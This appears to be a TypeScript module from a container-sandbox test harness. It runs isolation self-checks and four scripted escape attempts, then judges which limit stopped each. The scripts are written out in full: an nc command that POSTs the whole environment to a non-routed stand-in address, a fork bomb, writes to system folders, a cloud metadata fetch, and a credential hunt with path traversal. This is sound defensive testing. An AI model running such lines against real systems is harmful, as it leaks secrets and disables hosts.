import { spawnSync } from "node:child_process";
import type Dockerode from "dockerode";
import {
  FORK_COUNT_MARGIN,
  HTTP_GET,
  judgeProbe,
  type LaunchSpec,
  METADATA_URL,
  PER_TASK_NETWORK,
  PROBE_TIMEOUT_SECONDS,
  type ProbeReport,
  type ProxyDecision,
  parseProbeOutput,
  probeEgressUrl,
  probeScript,
  type Template,
} from "../components/model";
import type { TaskLauncher, TaskResult } from "./task";

/** What runs a check: either backend's launcher (runtime/task.ts). */
export type TaskRunner = Pick<TaskLauncher, "run">;

/** Where a check's task ran: a Docker engine, or a cluster whose leftovers the Kubernetes launcher lists. */
export type TaskPlace = Dockerode | { readonly leftovers: (taskId: string) => Promise<string[]> };

/**
 * Where the exfiltration check sends the environment: an address in TEST-NET-3 (RFC 5737), which is never
 * routed. The task has no route off the machine anyway; this makes sure that even a broken wall reaches nothing.
 */
export const EXFIL_URL = "http://203.0.113.7/collect";

/** Longest an escape check may run, whatever the template's own deadline. */
export const ESCAPE_TIMEOUT_SECONDS = 15;

/**
 * Runs the self-check inside a task of the template and judges every wall, declared vs observed. On Kubernetes
 * (`kubernetes: true`) the process wall is on the pod's cgroup, so the probe counts forks instead of reading it.
 */
export async function runProbe(
  launcher: TaskRunner,
  spec: LaunchSpec,
  template: Template,
  id?: string,
  options: { readonly kubernetes?: boolean } = {},
): Promise<{ report: ProbeReport; result: TaskResult }> {
  const egressUrl = probeEgressUrl(spec.egress);
  const script = probeScript({
    jobFolder: spec.jobFolder.containerPath,
    egressUrl,
    // Under gVisor the sandbox's own threads share the pod's process limit and exhausting it stops the sandbox, so
    // forks are not counted there (the fork-bomb escape shows the limit holds).
    ...(options.kubernetes && template.runtime !== "runsc"
      ? { countForksUpTo: template.resources.pids + FORK_COUNT_MARGIN }
      : {}),
    ...(spec.broker?.probe === undefined ? {} : { broker: spec.broker.probe }),
  });
  const result = await launcher.run(
    { ...spec, timeoutSeconds: Math.min(spec.timeoutSeconds, PROBE_TIMEOUT_SECONDS) },
    { ...(id ? { id } : {}), command: ["sh", "-c", script], removeJobDir: true },
  );
  const observed = parseProbeOutput(result.stdout);
  const judged = judgeProbe(template, observed, {
    podLimit: options.kubernetes === true,
    ...(result.jobDisk === undefined ? {} : { jobDisk: result.jobDisk }),
  });
  return { report: judged, result };
}

/** The four escapes the field guides name. */
export type EscapeCheck = "exfiltrate-env" | "write-outside-job" | "fork-bomb" | "metadata";
export const ESCAPE_CHECKS: readonly EscapeCheck[] = [
  "exfiltrate-env",
  "write-outside-job",
  "fork-bomb",
  "metadata",
];

/** The verdict on one escape attempt. */
export interface EscapeResult {
  readonly check: EscapeCheck;
  /** True when the attempt failed, as it must. */
  readonly blocked: boolean;
  /** The wall that stopped it. */
  readonly blockedBy: string;
  /** What was observed, in a line. */
  readonly evidence: string;
  /** Objects of the task still on the engine afterwards (must be none). */
  readonly leftovers: readonly string[];
}

function networkWall(spec: LaunchSpec): string {
  return spec.network === "none"
    ? "no network (networkMode none: no interface but loopback)"
    : spec.network === PER_TASK_NETWORK
      ? "the task's own internal network (no route off the machine) and the allowlist proxy, its only way out"
      : `internal network ${spec.network}: no route off the machine, only the allowlist proxy`;
}

/** The proxy's refusals of requests to `host`, as evidence lines. */
function refusals(decisions: readonly ProxyDecision[], host: string): string[] {
  return decisions
    .filter((d) => d.decision === "denied" && d.host === host)
    .map(
      (d) =>
        `proxy denied ${d.method} ${d.host}:${d.port} (${d.squid}/${d.status}${d.server === undefined ? ", no connection made" : `, connected to ${d.server}`})`,
    );
}

const SCRIPTS: Record<EscapeCheck, string> = {
  "exfiltrate-env": [
    HTTP_GET,
    'names="$(env | cut -d= -f1 | sort | tr "\\n" " ")"',
    'payload="$(env)"',
    `status="$( { printf 'POST /collect HTTP/1.0\\r\\nHost: 203.0.113.7\\r\\nContent-Length: %s\\r\\n\\r\\n' "$(printf %s "$payload" | wc -c)"; printf %s "$payload"; } | nc -w 3 203.0.113.7 80 2>&1 | head -n 1)"`,
    'echo "escape.names=$names"',
    'echo "escape.status=$status"',
    // Proxy mode: the same attempt through the proxy, which must refuse it (the address is on no allowlist).
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
    'if [ -n "${http_proxy:-}" ]; then echo "escape.proxyStatus=$(http_get http://203.0.113.7/collect)"; fi',
  ].join("\n"),
  "write-outside-job": [
    "for d in / /etc /usr /bin /sbin /lib /var /root /home /opt /srv /run; do",
    '  if ( : > "$d/.escape-write" ) 2>/dev/null; then rm -f "$d/.escape-write"; echo "escape.wrote=$d"; else echo "escape.denied=$d"; fi',
    "done",
  ].join("\n"),
  "fork-bomb": [
    "bomb() { bomb | bomb & }",
    "bomb",
    "sleep 3",
    'echo "escape.pids=$(cat /sys/fs/cgroup/pids.current /sys/fs/cgroup/pids/pids.current 2>/dev/null | head -n 1)"',
  ].join("\n"),
  metadata: [HTTP_GET, `echo "escape.status=$(http_get '${METADATA_URL}')"`].join("\n"),
};

/**
 * A template that calls the broker: the environment escape also hunts for the broker's credential (its variables,
 * its credentials folder), calls the upstream directly, and asks the broker for an encoded dot segment and a path
 * outside the route. Every attempt must come back empty or refused.
 */
function brokerEscapeLines(spec: LaunchSpec): string[] {
  const b = spec.broker?.probe;
  if (b === undefined) return [];
  const base = `"$SANDBOX_BROKER_URL/${b.route}`;
  return [
    'http_proxy=""',
    'c="$(env | grep -c \'^SANDBOX_BROKER_CRED_\')"; [ -e /run/secrets/sandbox-broker ] && c="$c+files"; echo "escape.brokerCred=$c"',
    `echo "escape.brokerDirect=$(http_get 'http://${b.upstream}/')"`,
    `echo "escape.brokerTraversal=$(http_get ${base}/%2e%2e/")"`,
    ...(b.outsidePath === undefined
      ? []
      : [`echo "escape.brokerOutside=$(http_get ${base}${b.outsidePath}")"`]),
  ];
}

/** The broker's part of the environment escape: blocked, and what was seen. */
function brokerVerdict(spec: LaunchSpec, stdout: string): { blocked: boolean; evidence: string } | undefined {
  const b = spec.broker?.probe;
  if (b === undefined) return undefined;
  const cred = lines(stdout, "brokerCred")[0] ?? "(not reported)";
  const direct = lines(stdout, "brokerDirect")[0] ?? "";
  const traversal = lines(stdout, "brokerTraversal")[0] ?? "";
  const outside = lines(stdout, "brokerOutside")[0];
  const blocked =
    cred === "0" &&
    !direct.startsWith("HTTP/") &&
    / 400 /.test(traversal) &&
    (b.outsidePath === undefined || / 403 /.test(outside ?? ""));
  const said = (s: string | undefined) => (s === undefined || s === "" ? "no answer" : s);
  return {
    blocked,
    evidence: `broker: credential variables in the task ${cred}, direct call to ${b.upstream} ${said(direct)}, encoded dot segment ${said(traversal)}${b.outsidePath === undefined ? "" : `, path outside the route ${said(outside)}`}`,
  };
}

function lines(stdout: string, key: string): string[] {
  return stdout
    .split("\n")
    .filter((l) => l.startsWith(`escape.${key}=`))
    .map((l) => l.slice(key.length + 8).trim());
}

/** Runs one escape attempt as a task of the template and judges whether a wall stopped it. */
export async function runEscape(
  launcher: TaskRunner,
  place: TaskPlace,
  spec: LaunchSpec,
  check: EscapeCheck,
  id?: string,
): Promise<EscapeResult> {
  const result = await launcher.run(
    { ...spec, timeoutSeconds: Math.min(spec.timeoutSeconds, ESCAPE_TIMEOUT_SECONDS) },
    {
      ...(id ? { id } : {}),
      command: [
        "sh",
        "-c",
        [SCRIPTS[check], ...(check === "exfiltrate-env" ? brokerEscapeLines(spec) : [])].join("\n"),
      ],
      removeJobDir: true,
    },
  );
  const leftovers =
    "leftovers" in place
      ? await place.leftovers(result.id)
      : (await place.listContainers({ all: true, filters: { label: [`sandbox.task=${result.id}`] } })).map(
          (c) => c.Names[0] ?? c.Id,
        );
  switch (check) {
    case "exfiltrate-env":
    case "metadata": {
      // Proxy mode: an answer is acceptable only as the proxy's refusal, proven by its decision log (a 403 and a
      // "denied" decision for that host, with no connection made).
      const decisions = result.egress?.decisions ?? [];
      const host = check === "metadata" ? new URL(METADATA_URL).hostname : "203.0.113.7";
      const denied = refusals(decisions, host);
      const refused = (status: string) => status === "" || (/ 403 /.test(status) && denied.length > 0);
      const status = lines(result.stdout, "status")[0] ?? "";
      const proxyStatus = lines(result.stdout, "proxyStatus")[0] ?? "";
      const direct = check === "exfiltrate-env" ? !status.startsWith("HTTP/") : refused(status);
      const broker = check === "exfiltrate-env" ? brokerVerdict(spec, result.stdout) : undefined;
      const blocked = direct && refused(proxyStatus) && (broker?.blocked ?? true);
      const names = lines(result.stdout, "names")[0];
      const answered = [status, proxyStatus].filter((x) => x.startsWith("HTTP/")).join(", ");
      return {
        check,
        blocked,
        blockedBy: blocked ? networkWall(spec) : "nothing: a server answered",
        evidence:
          (blocked
            ? `no answer but the proxy's refusal${answered ? ` (${answered})` : ""}`
            : `answered: ${answered}`) +
          (denied.length > 0 ? `; ${denied.join("; ")}` : "") +
          (names === undefined ? "" : `; the environment held only: ${names}`) +
          (broker === undefined ? "" : `; ${broker.evidence}`),
        leftovers,
      };
    }
    case "write-outside-job": {
      const wrote = lines(result.stdout, "wrote");
      const denied = lines(result.stdout, "denied");
      const blocked = wrote.length === 0 && denied.length > 0;
      return {
        check,
        blocked,
        blockedBy: blocked ? "read-only root filesystem" : "nothing",
        evidence: blocked ? `every write was refused (${denied.join(" ")})` : `wrote to ${wrote.join(" ")}`,
        leftovers,
      };
    }
    case "fork-bomb": {
      // The host must still be able to start a process while and after the bomb ran.
      const hostForks = spawnSync("true").status === 0;
      // Under gVisor the bomb's processes are the sandbox's own: the process limit on the sandbox's host cgroup ends
      // the shell at its first failed fork (exit 2, its last line never printed), without a word on stderr.
      const gvisorStopped =
        spec.runtime === "runsc" &&
        result.exitCode !== 0 &&
        !result.limits.includes("timeout") &&
        lines(result.stdout, "pids").length === 0;
      const blocked = (result.limits.includes("pids") || gvisorStopped) && hostForks;
      return {
        check,
        blocked,
        blockedBy: blocked
          ? spec.runtime === "runsc"
            ? `gVisor under the pids limit of its host cgroup (pids.max=${spec.resources.pids}): the bomb could not fork past it`
            : `pids limit (pids.max=${spec.resources.pids})`
          : "nothing",
        evidence: `limits hit: ${result.limits.join(", ") || "none"}; processes at the end: ${lines(result.stdout, "pids")[0] ?? "unknown"}; host can fork: ${hostForks}`,
        leftovers,
      };
    }
  }
}
